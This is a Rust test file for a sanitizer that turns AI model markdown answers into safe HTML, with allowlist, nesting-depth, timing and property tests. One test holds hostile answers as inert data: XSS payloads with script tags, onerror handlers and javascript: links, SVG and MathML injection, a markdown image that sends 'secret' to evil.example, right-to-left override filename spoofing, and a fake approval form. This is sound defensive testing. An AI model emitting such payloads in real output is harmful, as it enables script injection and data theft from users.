use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::html_of;

/// A tag of the output, as its name and its attributes.
type Tag = (String, Vec<(String, String)>);

/// The tags of HTML in the one form that the output may have. All else in it is text.
fn tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        assert!(!rest[..start].contains('>'), "a loose bracket in {html}");
        rest = &rest[start + 1..];
        let name: String =
            rest.chars().take_while(|char| char.is_ascii_alphanumeric() || *char == '/').collect();
        rest = &rest[name.len()..];
        let mut attributes = Vec::new();
        while let Some(attribute) = rest.strip_prefix(' ') {
            let (key, value) = attribute.split_once("=\"").unwrap_or_else(|| panic!("no value in {html}"));
            let (value, after) =
                value.split_once('"').unwrap_or_else(|| panic!("no end of a value in {html}"));
            attributes.push((key.to_owned(), value.to_owned()));
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap_or_else(|| panic!("a tag that does not end in {html}"));
        tags.push((name, attributes));
    }
    tags
}

/// Whether HTML has nothing but what is known to be harmless. This says anew what the two walls should let through, so that it
/// is no repetition of what they do.
fn is_harmless(html: &str) {
    let plain = [
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "pre",
        "ul",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "em",
        "strong",
        "del",
        "br",
        "hr",
        "wbr",
    ];
    assert!(!html.chars().any(|char| ('\u{202a}'..='\u{202e}').contains(&char)), "{html}");
    for (name, attributes) in tags(html) {
        let (is_end, name) = match name.strip_prefix('/') {
            Some(name) => (true, name),
            None => (false, name.as_str()),
        };
        let known = plain.contains(&name) || ["a", "img", "code", "ol", "td", "th", "input"].contains(&name);
        assert!(known, "<{name}> in {html}");
        assert!(!is_end || attributes.is_empty());
        if name == "a" && !is_end {
            let has = |key: &str, value: &str| attributes.iter().any(|one| one.0 == key && one.1 == value);
            assert!(has("target", "_blank") && has("rel", "noopener noreferrer nofollow"), "{html}");
        }
        for (key, value) in &attributes {
            let value = value.as_str();
            let may_be = match (name, key.as_str()) {
                ("a", "href") => {
                    let scheme = value.split(':').next().unwrap().to_ascii_lowercase();
                    ["http", "https", "mailto"].contains(&scheme.as_str()) && value.is_ascii()
                }
                ("a", "target") => value == "_blank",
                ("a", "rel") => value == "noopener noreferrer nofollow",
                ("img", "src") => value.starts_with("data:image/") && !value.contains("svg"),
                ("a" | "img", "title") | ("img", "alt") => true,
                ("code", "class") => value.starts_with("language-") && !value.contains([' ', '&']),
                ("ol", "start") => value.bytes().all(|byte| byte.is_ascii_digit()),
                ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
                ("input", "type") => value == "checkbox",
                ("input", "disabled" | "checked") => value.is_empty(),
                _ => false,
            };
            assert!(may_be, "{key}=\"{value}\" of <{name}> in {html}");
        }
        assert!(name != "input" || is_end || attributes.iter().any(|(key, _)| key == "disabled"));
    }
}

#[test]
fn what_models_write_looks_as_they_mean_it() {
    let link = " target=\"_blank\" rel=\"noopener noreferrer nofollow\"";
    for (markdown, html) in [
        ("# A *b*\n\ntext", "<h1>A <em>b</em></h1>\n<p>text</p>\n".to_owned()),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n".into()),
        ("7. a", "<ol start=\"7\">\n<li>a</li>\n</ol>\n".into()),
        ("```rust\nif a < b {}\n```", "<pre><code class=\"language-rust\">if a &lt; b {}\n</code></pre>\n".into()),
        ("```rust,ignore\nx\n```", "<pre><code class=\"language-rust\">x\n</code></pre>\n".into()),
        ("```\" onclick=x\nx\n```", "<pre><code>x\n</code></pre>\n".into()),
        (
            "| a | b |\n|:--|--:|\n| 1<br>2 | `x` |",
            "<table>\n<thead><tr><th align=\"left\">a</th><th align=\"right\">b</th></tr></thead><tbody>\n\
             <tr><td align=\"left\">1<br>2</td><td align=\"right\"><code>x</code></td></tr>\n</tbody></table>\n"
                .into(),
        ),
        (
            "- [x] done\n- [ ] ~~not~~",
            "<ul>\n<li><input type=\"checkbox\" disabled=\"\" checked=\"\"> done</li>\n\
             <li><input type=\"checkbox\" disabled=\"\"> <del>not</del></li>\n</ul>\n"
                .into(),
        ),
        (
            "[a](https://x.example/ö?b=c&d \"t\") <me@x.example>",
            format!(
                "<p><a href=\"https://x.example/%C3%B6?b=c&amp;d\" title=\"t\"{link}>a</a> \
                 <a href=\"mailto:me@x.example\"{link}>me@x.example</a></p>\n"
            ),
        ),
        (
            "see https://x.example/a_b, and `https://y.example`",
            format!(
                "<p>see <a href=\"https://x.example/a_b\"{link}>https://x.example/a_b</a>, and \
                 <code>https://y.example</code></p>\n"
            ),
        ),
        (
            "![a *b*](data:image/png;base64,AAAA)",
            "<p><img src=\"data:image/png;base64,AAAA\" alt=\"a b\"></p>\n".into(),
        ),
        ("a\\\nb\nc", "<p>a<br>\nb\nc</p>\n".into()),
        ("الجواب هو 42", "<p>الجواب هو 42</p>\n".into()),
    ] {
        let made = html_of(markdown);
        // The order in which attributes are written is not the point.
        let sorted = |html: &str| {
            let mut all = tags(html);
            all.iter_mut().for_each(|(_, attributes)| attributes.sort());
            all
        };
        assert_eq!(sorted(&made), sorted(&html), "{markdown}: {made}");
        let words = |html: &str| html.split('<').map(|part| part.rsplit('>').next().unwrap().to_owned()).collect::<Vec<_>>();
        assert_eq!(words(&made), words(&html), "{markdown}");
        is_harmless(&made);
    }
}

/// The ten hostile answers. What each must show is in it as text, and nothing of it does anything.
#[test]
fn fault_12_hostile_answers_are_inert() {
    let table = format!("|{}\n|{}\n{}", "a|".repeat(2_000), "-|".repeat(2_000), "|b\n".repeat(2_000));
    let line = "endless ".repeat(100_000);
    let answers: &[(&str, &str)] = &[
        (
            "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)> <b onmouseover=alert(3)>x</b>",
            "&lt;script&gt;",
        ),
        ("![the chart](https://evil.example/?d=secret)", ">the chart</a>"),
        ("![x][r] [y][r] ![z]\n\n[r]: https://evil.example/?d=secret\n[z]: //evil.example/p.png", ">y</a>"),
        (
            "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\nscript:alert(1)) [d](data:text/html,x) \
             [e](vbscript:x) [f](&#106;avascript:alert(1)) <javascript:alert(1)> [g](//evil.example) [h](/api/v1/me)",
            "a b",
        ),
        (
            "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">x</a></svg>\n\n\
             ![s](data:image/svg+xml;base64,PHN2Zz4=)",
            "&lt;svg&gt;",
        ),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "&lt;math&gt;"),
        (&table, "<table>"),
        (&line, "endless endless"),
        ("invoice\u{202e}gpj.exe \u{202d}x \u{202a}[l](https://x.example/\u{202e}cod)", "[U+202E]gpj.exe"),
        (
            "<section role=\"alert\" data-approval=\"appr_1\" class=\"approval\"><h2>Approval: pay</h2>\
             <button>Allow once</button><form action=\"https://evil.example\"><input name=key></form></section>",
            "&lt;button&gt;",
        ),
    ];
    for (markdown, shown) in answers {
        let html = html_of(markdown);
        is_harmless(&html);
        assert!(html.contains(shown), "{markdown}: {html}");
        assert!(!html.contains("<img"), "{html}");
    }
    // What leads elsewhere is shown, and is followed by a person or not at all.
    assert!(html_of(answers[1].0).contains("href=\"https://evil.example/?d=secret\""));
    assert!(!html_of(answers[3].0).contains("<a"));
}

#[test]
fn what_is_deep_is_shown_without_its_depth() {
    for markdown in [
        format!("{} deep", ">".repeat(5_000)),
        format!("{}deep{}", "*a **b ".repeat(500), "** *".repeat(500)),
        (0..300).map(|depth| format!("{}- deep\n", "  ".repeat(depth))).collect(),
        format!("{}\n{}|-|\n{}|deep|", "> ".repeat(46) + "|a|", "> ".repeat(46), "> ".repeat(46)),
    ] {
        let html = html_of(&markdown);
        is_harmless(&html);
        assert!(html.contains("deep"), "{html}");
        let mut depth = 0_i32;
        let deepest = tags(&html).iter().fold(0, |deepest, (name, _)| {
            match name.strip_prefix('/') {
                Some(_) => depth -= 1,
                None if !["br", "hr", "img", "input", "wbr"].contains(&name.as_str()) => depth += 1,
                None => {}
            }
            deepest.max(depth)
        });
        assert!(deepest <= 60, "{deepest}");
    }
}

/// A text of the greatest length that is taken costs no more than its length: a second or two. Were one of these quadratic,
/// it would be a minute at least.
#[test]
fn long_texts_take_as_long_as_they_are() {
    const LENGTH: usize = 1024 * 1024;
    let of = |piece: &str| piece.repeat(LENGTH / piece.len());
    for piece in [
        "[",
        "![",
        "*",
        "**a",
        "_a ",
        "~~",
        "`",
        "`a``",
        "<",
        "<a ",
        "<!--",
        "&",
        "\\",
        ">",
        "> ",
        "- ",
        "|",
        "a|\n",
        "#",
        "[a](",
        "[a]: b\n",
        "![a](b",
        "<b>",
        "(",
        "https://",
        "http://a)",
        "\u{202e}",
        "a",
        "\n",
        "    a\n",
        "```\n",
        "]",
        "[[a]",
        "*a_",
        "1. ",
        "x\n-\n",
        "](",
        "\t",
        "[x]: <",
        "- [ ] ",
        "http://a.b ",
        "[a](http://b) ",
        "*a* ",
        "**a *b* c** ",
        "- a\n",
        "|a|b|\n|-|-|\n",
        "![a](data:image/png;base64,AA) ",
        "<br>",
        "a  \n",
        "> a\n\n",
        "&amp;",
        "<a@b.c> ",
        "[x]: http://a\n[x]\n",
    ] {
        let start = Instant::now();
        let html = html_of(&of(piece));
        let took = start.elapsed();
        assert!(took < Duration::from_secs(20), "{piece:?} took {took:?}");
        assert!(html.len() < 40 * LENGTH, "{piece:?} became {} bytes", html.len());
    }
}

fn piece() -> impl Strategy<Value = String> {
    let known = prop_oneof![
        Just("["),
        Just("]("),
        Just(")"),
        Just("!["),
        Just("]: "),
        Just("*"),
        Just("**"),
        Just("_"),
        Just("~~"),
        Just("`"),
        Just("```"),
        Just("\n"),
        Just("\n\n"),
        Just("> "),
        Just("- "),
        Just("1. "),
        Just("| a |\n|---|\n"),
        Just("|"),
        Just("<"),
        Just(">"),
        Just("/>"),
        Just("</"),
        Just("<!--"),
        Just("-->"),
        Just("<![CDATA["),
        Just("&"),
        Just("&lt;"),
        Just("&#106;"),
        Just("&#x3c;"),
        Just("\""),
        Just("'"),
        Just("="),
        Just(" "),
        Just("\\"),
        Just("script"),
        Just("<script>"),
        Just("<img src=x onerror=y>"),
        Just("<svg>"),
        Just("<math>"),
        Just("<style>"),
        Just("<p style=x>"),
        Just("<table>"),
        Just("<select>"),
        Just("<template>"),
        Just("<noscript>"),
        Just("<title>"),
        Just("<textarea>"),
        Just("javascript:"),
        Just("JAVASCRIPT:x"),
        Just("data:image/png;base64,AA"),
        Just("data:image/svg+xml;base64,AA"),
        Just("data:text/html,x"),
        Just("https://x.example"),
        Just("http://"),
        Just("//x"),
        Just("mailto:a@b"),
        Just("://"),
        Just("onclick=x"),
        Just("href=\"x\""),
        Just("\u{202e}"),
        Just("\u{0}"),
        Just("\u{a0}"),
        Just("{#id .class}"),
        Just("- [x] "),
        Just("<br>"),
        Just("<br onclick=x>"),
        Just("<a@b.c>"),
        Just("# "),
    ];
    prop_oneof![8 => known.prop_map(str::to_owned), 1 => ".{0,8}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    /// Whatever the text, what comes out is made of what is known to be harmless.
    #[test]
    fn nothing_gets_through_that_is_not_known(pieces in proptest::collection::vec(piece(), 0..40)) {
        is_harmless(&html_of(&pieces.concat()));
    }
}
